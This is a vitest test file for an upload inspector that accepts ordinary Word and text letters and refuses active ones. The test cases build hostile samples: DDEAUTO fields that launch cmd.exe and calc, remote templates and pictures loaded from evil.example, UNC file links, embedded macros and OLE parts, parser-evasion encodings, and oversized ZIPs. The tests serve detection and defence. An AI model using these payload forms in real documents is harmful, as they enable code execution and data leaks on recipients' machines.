import { strToU8, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import type { FilePurpose } from '#workflows/filePurposes.ts';
import { inspectUpload } from './inspectUpload.ts';

const relation = (type: string, target: string, external = false) =>
  `<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`;
const docx = (parts: Record<string, string | Uint8Array> = {}, relations = '') =>
  zipSync(
    Object.fromEntries(
      Object.entries({
        '[Content_Types].xml':
          '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        'word/document.xml': '<w:document>Dear Ms. Nguyen</w:document>',
        'word/_rels/document.xml.rels': `<Relationships>${relations}</Relationships>`,
        ...parts,
      }).map(([name, part]) => [name, typeof part === 'string' ? strToU8(part) : part]),
    ),
  );
const relations = (content: string, before = '') =>
  `${before}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${content}</Relationships>`;
const template = relation('attachedTemplate', 'https://evil.example/t.dotm', true);
/** A DOCX with these relationships of its settings: where a template stands. */
const withSettings = (part: string | Uint8Array, name = 'settings.xml.rels') => docx({ [`word/_rels/${name}`]: part });
/** The same bytes with one name made another of its length: a ZIP that no packer writes. */
const renamed = (bytes: Uint8Array, from: string, to: string) =>
  Buffer.from(Buffer.from(bytes).toString('latin1').replaceAll(from, to), 'latin1');
const doc = (...storages: string[]) =>
  Buffer.concat([
    Buffer.from('D0CF11E0A1B11AE1', 'hex'),
    Buffer.alloc(600),
    ...['Root Entry', ...storages].map((name) => Buffer.from(`${name}\0`.padEnd(32, '\0'), 'utf16le')),
  ]);
const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>';
const end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>';
const run = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
/** A field whose text stands in one run after the other. */
const field = (...texts: string[]) =>
  `${begin}${texts.map(run).join('<w:proofErr w:type="spellStart"/>')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>${end}`;
const word = (body: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="x"><w:p>${body}</w:p></w:document>`;
const withText = (text: string, encoding: BufferEncoding) =>
  Buffer.concat([doc('WordDocument', '1Table'), Buffer.from(text, encoding)]);
const withTemplate = (name: string) =>
  Buffer.concat([
    doc('WordDocument'),
    Buffer.from('FFFF120000000000', 'hex'),
    Buffer.from([name.length, 0]),
    Buffer.from(name, 'utf16le'),
  ]);
type Case = [name: string, bytes: Uint8Array, code: string];
const docxType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const inspected = (bytes: Uint8Array, purpose: FilePurpose = 'document') => inspectUpload({ bytes, purpose });

describe('a letter', () => {
  test.each([
    ['a DOCX', docx(), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    [
      'a DOCX with a link to press',
      docx({}, relation('hyperlink', 'https://bank.example', true)),
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    ],
    [
      'a DOCX as Word writes it',
      withSettings(
        relations(
          `\r\n  <!-- two -->${relation('hyperlink', 'https://bank.example/?a=1&amp;b=&#50;', true)}${relation('image', 'media/image1.png')}<Relationship Id="rId3" Type="x/theme" Target="theme.xml" TargetMode="Internal" ></Relationship>`,
          '\uFEFF<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n',
        ),
      ),
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    ],
    [
      'a DOCX with pages, dates, headings and links',
      docx({
        'word/document.xml': word(
          [
            ' PAGE   \\* MERGEFORMAT ',
            ' DATE \\@ "M/d/yyyy" ',
            ' TOC \\o "1-3" \\h \\z \\u ',
            'HYPERLINK "https://bank.example/profile:1"',
            ' =SUM(ABOVE) ',
            'FORMTEXT',
          ]
            .map((text) => field(text))
            .join('') +
            `${begin}${run(' HYPERLINK "mailto:')}${field(' AUTHOR ')}${run('" ')}${end}<w:fldSimple w:instr=" NUMPAGES "/>`,
        ),
        'word/header1.xml': word(field(' PAGEREF _Toc1 ')),
        'docProps/app.xml': '<Properties><Company>Smith &amp; Sons</Company></Properties>',
        'customXml/item1.xml': '<?mso-contentType?><a><![CDATA[x]]></a>',
      }),
      docxType,
    ],
    ['a DOC', doc('WordDocument', '1Table'), 'application/msword'],
    ['a DOC with the page’s number', withText('\x13 PAGE \x14 1 \x15', 'latin1'), 'application/msword'],
    ['a DOC with a template of its own machine', withTemplate('C:\\Templates\\Normal.dot'), 'application/msword'],
    ['a text of Notepad’s “Unicode”', Buffer.from('\ufeffDear Carla,\r\nпривет 你好\r\n', 'utf16le'), 'text/plain'],
    ['a text', Buffer.from('Dear Carla,\r\n\tyour card was closed.\r\n'), 'text/plain'],
    ['a text of an older editor', Buffer.from([0x53, 0xe3, 0x6f, 0x20, 0x50, 0x61, 0x75, 0x6c, 0x6f]), 'text/plain'],
  ])('%s is kept as it came', async (_, bytes, mediaType) => {
    expect(await inspected(bytes)).toMatchObject({ kind: 'inspected', mediaType, content: undefined });
  });

  test.each<Case>([
    ['a DOCX with macros', docx({ 'word/vbaProject.bin': 'x' }), 'activeDocument'],
    ['a DOCX with a control', docx({ 'word/activeX/activeX1.xml': 'x' }), 'activeDocument'],
    ['a DOCX with another file inside', docx({ 'word/embeddings/oleObject1.bin': 'x' }), 'activeDocument'],
    [
      'a DOCX that loads its template from elsewhere',
      docx({
        'word/_rels/settings.xml.rels': `<Relationships>${relation('attachedTemplate', 'https://evil.example/t.dotm', true)}</Relationships>`,
      }),
      'activeDocument',
    ],
    [
      'a DOCX that loads a picture from elsewhere, whatever its spelling',
      docx({}, `<Relationship TargetMode='External' Type='x/image' Target='http://evil.example/i'/>`),
      'activeDocument',
    ],
    [
      'a DOCX whose template’s address ends like a link',
      withSettings(relations(relation('attachedTemplate', 'https://evil.example/hyperlink', true))),
      'activeDocument',
    ],
    [
      'a DOCX that writes a letter as its number',
      withSettings(relations(template.replace('External', 'Extern&#97;l'))),
      'activeDocument',
    ],
    [
      'a DOCX whose relationships have a prefix',
      withSettings(
        `<r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships">${template.replace('<', '<r:')}</r:Relationships>`,
      ),
      'activeDocument',
    ],
    [
      'a DOCX whose relationships are of two bytes a letter',
      withSettings(Buffer.from(relations(template, '\uFEFF'), 'utf16le')),
      'brokenDocument',
    ],
    [
      'a DOCX whose relationships say that they are of another encoding',
      withSettings(relations(template.replaceAll('<', '+ADw-'), '<?xml version="1.0" encoding="UTF-7"?>')),
      'brokenDocument',
    ],
    [
      'a DOCX that writes the kind by an entity of its own',
      withSettings(relations(template.replace('External', '&e;'), '<!DOCTYPE Relationships [<!ENTITY e "External">]>')),
      'brokenDocument',
    ],
    ['a DOCX with an unknown entity', withSettings(relations(template.replace('External', '&e;'))), 'brokenDocument'],
    [
      'a DOCX that says twice where its template is',
      withSettings(relations(template.replace(' TargetMode', ' TargetMode="Internal" TargetMode'))),
      'brokenDocument',
    ],
    ['a DOCX with a sign in front of a tag', withSettings(relations(`<${template}`)), 'brokenDocument'],
    [
      'a DOCX whose relationships are called in capitals',
      withSettings(relations(template), 'settings.xml.RELS'),
      'activeDocument',
    ],
    [
      'a DOCX with a part twice',
      renamed(
        docx({ 'word/_rels/settings.xml.rels': relations(template), 'word/_rels/settingz.xml.rels': relations('') }),
        'settingz',
        'settings',
      ),
      'brokenDocument',
    ],
    ['a DOCX in pieces', withSettings(relations(template), 'settings.xml.rels/[0].piece'), 'activeDocument'],
    [
      'a DOCX of 3 MB of one tag',
      withSettings(`<Relationship${' '.repeat(1_000_000)}${' a="'.repeat(500_000)}`),
      'brokenDocument',
    ],
    [
      'a DOCX of very many parts',
      docx(Object.fromEntries(Array.from({ length: 2_100 }, (_, at) => [`word/p${at}.xml`, 'x']))),
      'brokenDocument',
    ],
    [
      'a DOCX whose relationships unfold to a flood',
      docx({ 'word/_rels/more.xml.rels': ' '.repeat(5_000_000) }),
      'brokenDocument',
    ],
    ...(
      [
        ['starts a program', field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')],
        ['starts one by a field over several runs', field(' DDE', 'AUTO cmd "/k calc" ')],
        ['writes a field’s name in numbers', field(' &#68;DE cmd ')],
        ['makes a field’s name by another field', `${begin}${run('D')}${field(' QUOTE 68 69 ')}${run(' cmd ')}${end}`],
        ['loads a picture', field(' INCLUDEPICTURE "http://evil.example/i.png" \\d ')],
        ['loads a text', field(' INCLUDETEXT "\\\\\\\\evil.example\\\\x.docx" ')],
        ['loads a sheet', field(' LINK Excel.Sheet.8 "\\\\\\\\evil\\\\x.xls" ')],
        ['asks a database', field(' DATABASE \\d "http://evil.example/x" ')],
        ['has a simple field', '<w:fldSimple w:instr=" DDEAUTO cmd "><w:r/></w:fldSimple>'],
        ['has a field that nobody knows', field(' FROBNICATE x ')],
        ['has a link to a server of files', field(' HYPERLINK "file://evil.example/x" ')],
        ['has a field that was deleted', field(' DDEAUTO cmd ').replaceAll('instrText', 'delInstrText')],
        ['has a field without an end', `${begin}${run(' DDEAUTO cmd ')}`],
        ['has another document in it', '<w:altChunk r:id="r"/>'],
        ['has an object in it', '<w:object><o:OLEObject r:id="r"/></w:object>'],
        ['merges mails from a database', '<w:mailMerge><w:query w:val="select 1"/></w:mailMerge>'],
        ['loads a picture of an older kind', '<v:imagedata src="http://evil.example/i"/>'],
        ['hides a field in literal text', `${begin}${run('<![CDATA[ DDEAUTO cmd ]]>')}${end}`],
      ] as const
    ).flatMap(([does, body]) =>
      ['document', 'header1', 'footer2', 'footnotes', 'endnotes', 'comments', 'settings', 'glossary/document'].map(
        (part): Case => [`a DOCX that ${does} (${part})`, docx({ [`word/${part}.xml`]: word(body) }), 'activeDocument'],
      ),
    ),
    ...['aFChunk', 'oleObject', 'package', 'subDocument', 'attachedTemplate', 'control', 'frame'].map((type): Case => [
      `a DOCX with a relationship ${type}`,
      docx({}, relation(type, 'part.xml')),
      'activeDocument',
    ]),
    ...['image', 'oleObject', 'video', 'settings', 'customXml'].map((type): Case => [
      `a DOCX whose ${type} is elsewhere`,
      docx({}, relation(type, 'http://evil.example/x', true)),
      'activeDocument',
    ]),
    [
      'a DOCX whose picture is elsewhere without saying so',
      docx({}, relation('image', '//evil.example/i')),
      'activeDocument',
    ],
    ['a DOCX with a link to a file', docx({}, relation('hyperlink', 'file://evil.example/x', true)), 'activeDocument'],
    ['a DOCX with a text of another format inside', docx({ 'word/chunk.rtf': '{\\rtf1}' }), 'activeDocument'],
    [
      'a DOCX whose letter is called like a picture',
      docx({
        '[Content_Types].xml':
          '<Types><Override PartName="/word/a.png" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        'word/a.png': word(field('DDEAUTO cmd')),
      }),
      'brokenDocument',
    ],
    [
      'a DOCX whose letter is called like a form’s data',
      docx({
        '[Content_Types].xml':
          '<Types><Override PartName="/customXml/item1.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        'customXml/item1.xml': word(field('DDEAUTO cmd')),
      }),
      'activeDocument',
    ],
    ['a DOC that starts a program', withText('\x13 DDEAUTO cmd \x15', 'latin1'), 'activeDocument'],
    ['a DOC that starts one, in two bytes a letter', withText('x\x13DDE cmd\x15', 'utf16le'), 'activeDocument'],
    [
      'a DOC that loads a picture',
      withText('\x13 INCLUDEPICTURE "http://evil.example" \x15', 'utf16le'),
      'activeDocument',
    ],
    ['a DOC whose template is elsewhere', withTemplate('http://evil.example/t'), 'activeDocument'],
    ['an RTF', Buffer.from('{\\rtf1 {\\object\\objautlink}}'), 'unsupportedType'],
    ['an RTF that begins later', Buffer.from('\ufeff {\\rt1 {\\object}}'), 'unsupportedType'],
    ['a page of two bytes a letter', Buffer.from('\ufeff<html><script>1</script>', 'utf16le'), 'unsupportedType'],
    ['a DOC with macros', doc('WordDocument', 'Macros', '_VBA_PROJECT'), 'activeDocument'],
    ['a DOC with another file inside', doc('WordDocument', 'ObjectPool'), 'activeDocument'],
    ['an Excel sheet', doc('Workbook'), 'brokenDocument'],
    ['half a DOCX', docx().subarray(0, 300), 'brokenDocument'],
    ['a page', Buffer.from(' <!DOCTYPE html><script>alert(1)</script>'), 'unsupportedType'],
    ['a drawing', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'), 'unsupportedType'],
    ['bytes of nothing', Buffer.from([1, 2, 3, 0, 5]), 'unsupportedType'],
    ['a program', Buffer.from('MZ\u0090\u0000 and so on'), 'unsupportedType'],
  ])('%s is refused', async (_, bytes, code) => {
    expect(await inspected(bytes)).toMatchObject({ kind: 'refused', code });
  });

  test('is no proof of payment and no credit report', async () => {
    for (const bytes of [docx(), doc('WordDocument'), Buffer.from('Paid.')]) {
      expect(await inspected(bytes, 'payment-proof')).toMatchObject({ code: 'unsupportedType' });
      expect(await inspected(bytes, 'credit-report')).toMatchObject({ code: 'pdfRequired' });
    }
  });
});
